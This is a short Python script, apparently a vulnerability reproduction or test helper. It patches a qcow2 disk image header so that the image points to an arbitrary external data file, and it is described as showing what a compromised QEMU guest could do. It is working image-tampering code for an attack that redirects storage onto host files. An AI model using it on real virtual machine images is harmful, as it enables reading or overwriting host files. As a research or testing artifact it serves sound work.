#!/usr/bin/env python3
"""img_add_data_file.py IMAGE NAME: what a QEMU a guest took over could do to
a qcow2 it holds read-write: set the external-data-file bit (incompatible
feature 2) and add a data-file name extension (0x44415441) naming NAME."""
import struct
import sys

path, name = sys.argv[1], sys.argv[2].encode()
with open(path, "r+b") as f:
    h = bytearray(f.read(65536))
    assert h[:4] == b"QFI\xfb" and struct.unpack(">I", h[4:8])[0] == 3
    hlen = struct.unpack(">I", h[100:104])[0]
    boff, bsize = struct.unpack(">QI", h[8:20])
    backing = bytes(h[boff:boff + bsize]) if boff else b""
    exts, at = b"", hlen
    while True:
        t, n = struct.unpack(">II", h[at:at + 8])
        if t == 0:
            break
        step = 8 + ((n + 7) & ~7)
        if t != 0x44415441:
            exts += h[at:at + step]
        at += step
    pad = (8 - len(name) % 8) % 8
    new = struct.pack(">II", 0x44415441, len(name)) + name + b"\0" * pad + exts + b"\0" * 8
    h[72:80] = struct.pack(">Q", struct.unpack(">Q", h[72:80])[0] | 4)
    if backing:
        h[8:16] = struct.pack(">Q", hlen + len(new))
    h[hlen:hlen + len(new) + len(backing)] = new + backing
    f.seek(0)
    f.write(h)
